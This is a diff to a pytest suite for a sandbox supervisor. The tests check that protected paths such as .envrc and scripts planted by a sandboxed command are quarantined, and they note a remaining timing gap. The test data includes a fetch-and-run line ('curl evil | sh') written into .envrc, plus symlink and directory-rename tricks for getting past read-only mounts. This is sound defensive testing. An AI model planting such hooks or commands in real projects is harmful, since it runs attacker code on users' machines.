@@ -11,6 +11,7 @@ that the second run only tests for existence.
 
 from __future__ import annotations
 
+import json
 import os
 import shutil
 import subprocess
@@ -19,10 +20,11 @@ import uuid
 from collections.abc import Iterator
 from pathlib import Path
 
+import anyio
 import pytest
 
 from policies import FilesystemPolicy, Policy, PolicyError, ResourcePolicy, profiles
-from supervisor import SandboxSetupError, Supervisor
+from supervisor import PIPE, SandboxSetupError, Supervisor
 from tests.kernel.test_attack_filesystem import tree_state
 
 pytestmark = pytest.mark.kernel
@@ -222,17 +224,107 @@ async def test_a_custom_protected_path_and_a_symlink_planted_in_its_place(
     assert str(workspace / "scripts") in str(info.value)
 
 
+async def test_a_protected_path_missing_at_the_start_is_moved_aside_after_the_run(
+    sup: Supervisor, workspace: Path
+) -> None:
+    # `protected = [".envrc"]` in a checkout without one: a mount cannot cover the missing name, so the
+    # command can create it; after the run it is moved out of the way (what direnv on the host would run is
+    # gone from its name) and reported, its content kept for the user to review.
+    pol = _protecting(workspace, ".envrc")
+    r = await sup.run(["/bin/sh", "-c", "echo 'curl evil | sh' > .envrc"], policy=pol)
+    assert r.exit_code == 0, r.stderr.decode()
+    assert not (workspace / ".envrc").exists()
+    aside = workspace / ".envrc.corral-quarantined"
+    assert aside.read_text() == "curl evil | sh\n"
+    assert [p for p, _ in r.quarantined] == [str(workspace / ".envrc")]
+    assert "filesystem.protected" in r.quarantined[0][1]
+    # An .envrc that exists when the sandbox starts is bound read-only, and kept after the run.
+    (workspace / ".envrc").write_text("export A=1\n")
+    r = await sup.run(["/bin/sh", "-c", "echo x >> .envrc; cat .envrc"], policy=pol)
+    assert r.stdout == b"export A=1\n"
+    assert (workspace / ".envrc").read_text() == "export A=1\n"
+    assert r.quarantined == ()
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        # the protected file's missing directory made by the command
+        "mkdir -p scripts && echo evil > scripts/run.sh",
+        # a symlink at the missing name (to a directory the command filled elsewhere in the root)
+        "mkdir -p x && echo evil > x/run.sh && ln -s x scripts",
+        # the protected file missing in a directory that exists: the directory replaced by the command
+        "mkdir -p tools && mv tools tools.old && mkdir -p tools/bin && echo evil > tools/bin/lint",
+    ],
+)
+async def test_protected_paths_created_through_their_directories_are_moved_aside(
+    sup: Supervisor, workspace: Path, script: str
+) -> None:
+    pol = _protecting(workspace, "scripts/run.sh", "tools/bin/lint")
+    r = await sup.run(["/bin/sh", "-c", script], policy=pol)
+    assert r.exit_code == 0, r.stderr.decode()
+    for rel in ("scripts/run.sh", "tools/bin/lint"):
+        assert not (workspace / rel).exists(), rel
+    assert r.quarantined, "nothing reported"
+    assert all("filesystem.protected" in why for _, why in r.quarantined)
+
+
+async def test_the_directories_above_an_existing_protected_path_cannot_be_renamed(
+    sup: Supervisor, workspace: Path
+) -> None:
+    # `tools/bin/lint` exists: it is bound read-only, and `tools/bin`, which holds that mount point, could be
+    # renamed away (a directory holding a mount point may be) and made anew with another `lint`, unprotected.
+    # Every directory between the root and the protected path is pinned: EBUSY.
+    (workspace / "tools" / "bin").mkdir(parents=True)
+    (workspace / "tools" / "bin" / "lint").write_text("ok\n")
+    pol = _protecting(workspace, "tools/bin/lint")
+    script = "mv tools/bin tools/bin2; mkdir -p tools/bin; echo evil > tools/bin/lint; cat tools/bin/lint"
+    r = await sup.run(["/bin/sh", "-c", script], policy=pol)
+    assert r.stdout == b"ok\n", r.stderr.decode()
+    assert b"busy" in r.stderr.lower(), r.stderr.decode()
+    assert (workspace / "tools" / "bin" / "lint").read_text() == "ok\n"
+    assert not (workspace / "tools" / "bin2").exists()
+
+
+def test_corral_run_moves_a_created_protected_path_aside_and_says_so(workspace: Path) -> None:
+    policy = workspace.parent / f"protect-{uuid.uuid4().hex[:8]}.toml"
+    policy.write_text(
+        f'workdir = "{workspace}"\n[filesystem]\nwrite = ["{workspace}"]\n'
+        'protected = [".git/hooks", ".git/config", ".envrc"]\n'
+    )
+    try:
+        out = workspace.parent / f"protect-{uuid.uuid4().hex[:8]}.json"
+        res = corral(
+            "run", "--policy", policy, "--json", out, "--", SH, "-c", "echo evil > .envrc", cwd=workspace
+        )
+        assert res.returncode == 0, res.stderr
+        assert "moved to .envrc.corral-quarantined" in res.stderr
+        assert not (workspace / ".envrc").exists()
+        record = json.loads(out.read_text())
+        assert [q["path"] for q in record["quarantined"]] == [str(workspace / ".envrc")]
+    finally:
+        policy.unlink(missing_ok=True)
+        out.unlink(missing_ok=True)
+
+
 @pytest.mark.xfail(
     strict=True,
     reason=(
-        "GAP: a protected path that does not exist when the sandbox starts is not protected: a mount can "
-        "only cover a name that exists, so the command creates it (`protected = ['.envrc']` without an "
-        ".envrc: the sandbox writes one that direnv runs on the host); create the file first"
+        "GAP: a protected path that does not exist when the sandbox starts is not protected DURING the "
+        "run: a mount can only cover a name that exists, so the command creates it (moved aside after the "
+        "run), and a tool on the host reading it meanwhile (direnv in a shell in that directory) runs it"
     ),
 )
-async def test_a_protected_path_missing_at_the_start_cannot_be_created(
+async def test_a_protected_path_missing_at_the_start_cannot_be_created_during_the_run(
     sup: Supervisor, workspace: Path
 ) -> None:
     pol = _protecting(workspace, ".envrc")
-    await sup.run(["/bin/sh", "-c", "echo 'curl evil | sh' > .envrc"], policy=pol)
-    assert not (workspace / ".envrc").exists()
+    script = "echo evil > .envrc; echo ready; sleep 10"
+    async with await sup.start(["/bin/sh", "-c", script], policy=pol, stdout=PIPE) as child:
+        assert child.stdout is not None
+        with anyio.fail_after(10):
+            await child.stdout.receive()  # "ready": the command has tried
+        seen = (workspace / ".envrc").exists()
+        child.kill()
+        await child.wait()
+    assert not seen
